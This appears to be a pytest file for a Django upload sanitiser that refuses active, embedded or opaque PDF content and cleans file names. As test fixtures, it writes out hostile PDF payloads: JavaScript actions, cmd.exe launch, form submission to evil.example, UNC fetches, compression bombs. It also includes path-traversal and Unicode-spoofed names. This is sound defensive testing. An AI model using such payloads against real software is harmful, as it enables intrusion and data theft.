"""PDFs and names from people, and the storage that no web server knows."""

import io
import zlib

import pytest
from django.core.exceptions import SuspiciousFileOperation, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import Http404
from django.utils import translation
from fpdf import FPDF
from PIL import Image

from home import pdf
from home.uploads import clean_attachment, clean_name, delete_private, open_private, serve_private, store_private


def document() -> FPDF:
    made = FPDF()
    made.add_page()
    made.set_font("Helvetica", size=12)
    made.cell(text="Zeichnung 4711")
    return made


def with_object(content: bytes) -> bytes:
    """Return a PDF with one more object."""
    return bytes(document().output()).replace(b"xref\n", b"99 0 obj\n" + content + b"\nendobj\nxref\n", 1)


def deflated(content: bytes, dictionary: bytes = b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"


def clean(data: bytes, name: str = "plan.pdf"):
    return clean_attachment(SimpleUploadedFile(name, data, content_type="text/html"))


def refusal(data: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        clean(data)
    return refused.value.code


def test_a_drawing_is_taken_as_it_is():
    data = bytes(document().output())
    kept = clean(data, "Plan.PDF")
    assert (kept.content.read(), kept.content_type, kept.name) == (data, "application/pdf", "Plan.pdf")


def test_links_and_pictures_in_a_pdf_are_taken():
    made = document()
    made.image(Image.effect_noise((300, 300), 60))
    made.cell(text="hier", link="https://www.example.com")
    made.start_section("Kapitel")
    assert clean(bytes(made.output())).content_type == "application/pdf"


def test_objects_that_are_packed_are_taken_when_harmless():
    assert clean(with_object(deflated(b"7 0 << /Type /Page >>"))).name == "plan.pdf"


OBJECTS = b"/Type /ObjStm /N 1 /First 5 "
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "content",
    [
        SCRIPT,
        b"<</S/JavaScript/JS(app.alert(1))>>",
        b"<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /SubmitForm /F (https://evil.example) >>",
        b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>",
        b"<< /XFA 5 0 R >>",
        deflated(b"7 0 " + SCRIPT),
        deflated(b"7 0 " + b" " * 300_000 + SCRIPT),
        deflated(b" " * (pdf.PART - 8) + SCRIPT),
        deflated(b"7 0 << /S /#4aavaScript >>", b"/Filter /FlateDecode"),
    ],
)
def test_what_runs_programs_is_refused(content):
    assert refusal(with_object(content)) == "active"


def test_files_in_a_pdf_are_refused():
    made = document()
    made.embed_file(bytes=b"MZ", basename="programm.exe")
    assert refusal(bytes(made.output())) == "embedded"
    assert refusal(with_object(deflated(b"7 0 << /Names << /EmbeddedFiles 8 0 R >> >>"))) == "embedded"


def test_an_encrypted_pdf_is_refused():
    made = document()
    made.set_encryption(owner_password="geheim", user_password="")
    assert refusal(bytes(made.output())) == "encrypted"


@pytest.mark.parametrize(
    "content",
    [
        b"<< /Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode /Length 8 >>\nstream\n37203020>\nendstream",
        b"<< /N 1 /F#69rst 5 /Filter /LZWDecode /Length 8 >>\nstream\nabcdefgh\nendstream",
        deflated(b"7 0 " + b" " * (pdf.MOST_OF_A_STREAM + pdf.PART * 2)),
        # Behind a long dictionary, twice packed, by differences only, by a filter named elsewhere, a tail of "stream".
        b"<< /Type /ObjStm /Filter /ASCIIHexDecode " + b" " * 5000 + b">>\nstream\n37203020>\nendstream",
        deflated(b"37203020>", OBJECTS + b"/Filter [/FlateDecode /ASCIIHexDecode]"),
        deflated(zlib.compress(SCRIPT), OBJECTS + b"/Filter [/FlateDecode /FlateDecode]"),
        deflated(b"\2" + SCRIPT[:4], OBJECTS + b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>"),
        deflated(b"37203020>", OBJECTS + b"/Filter 7 0 R /FlateDecode 1"),
        b"<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream%tail\n37203020>\nendstream",
    ],
)
def test_objects_that_nobody_can_see_are_refused(content):
    assert refusal(with_object(content)) == "opaque"


def test_a_file_of_nothing_but_beginnings_is_stopped():
    assert refusal(with_object(b"stream\n" * (pdf.MOST_STREAMS + 5))) == "opaque"


def test_many_bombs_are_stopped():
    blank = deflated(b"\0" * pdf.MOST_OF_A_STREAM, b"/Subtype /Image /Filter /FlateDecode")
    assert refusal(with_object(blank * 11)) == "opaque"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + b"x" * 100,
        bytes(document().output()) + b"PK\x03\x04 a second file",
        bytes(document().output()) + b"<script>alert(1)</script>",
    ],
)
def test_a_pdf_that_breaks_off_or_goes_on_is_refused(data):
    assert refusal(data) == "broken"


def test_a_pdf_with_something_before_it_is_no_pdf():
    assert refusal(b"MZ" + bytes(document().output())) == "unreadable"


def test_nothing_is_refused():
    assert refusal(b"") == "empty"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\eva\\Plan.pdf", "Plan.pdf"),
        ("rechnung\u202efdp.exe", "rechnungfdp.pdf"),
        ("a\u2066b\u2069c\0\r\nd.pdf", "abcd.pdf"),
        ("Übersicht — díly.PDF", "Übersicht — díly.pdf"),
        ("plan.pdf.pdf", "plan.pdf"),
        (".htaccess", "htaccess.pdf"),
        ('a"b;c<d>.pdf', "a b;c d.pdf"),
        ("...", "file.pdf"),
        ("", "file.pdf"),
        (None, "file.pdf"),
    ],
)
def test_names_mislead_nobody(name, kept):
    with translation.override("en"):
        assert clean_name(name, "application/pdf") == kept
    assert len(clean_name("ž" * 400, "image/png")) < 100


@pytest.fixture
def private(settings, tmp_path):
    settings.STORAGES = settings.STORAGES | {
        "private": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path, "base_url": None},
        }
    }
    return tmp_path


def test_a_file_is_kept_under_a_name_that_tells_nothing_and_handed_out_to_be_saved(private):
    clean_file = clean(bytes(document().output()), "Näherer Plan.pdf")
    name = store_private(clean_file)
    assert "Plan" not in name
    assert len(list(private.rglob("*.pdf"))) == 1
    with open_private(name) as file:
        assert file.read().startswith(b"%PDF-")
    response = serve_private(name, clean_file.name, clean_file.content_type)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/pdf"
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    response.close()
    delete_private(name)
    assert not list(private.rglob("*.pdf"))
    with pytest.raises(Http404):
        serve_private(name, "x.pdf", "application/pdf")


def test_a_type_that_was_never_checked_is_not_claimed(private):
    name = store_private(clean(bytes(document().output())))
    response = serve_private(name, "x.html", "text/html")
    assert response["Content-Type"] == "application/octet-stream"
    response.close()


@pytest.mark.parametrize("name", ["../secret", "/etc/passwd", "2026/../../x"])
def test_nobody_gets_out_of_the_storage(private, name):
    with pytest.raises((SuspiciousFileOperation, Http404)):
        serve_private(name, "x.pdf", "application/pdf")


def test_a_picture_as_attachment_is_drawn_anew():
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "GIF")
    kept = clean(file.getvalue() + b"<script>", "zeichnung.gif")
    assert (kept.name, kept.content_type) == ("zeichnung.png", "image/png")
    assert b"<script>" not in kept.content.read()
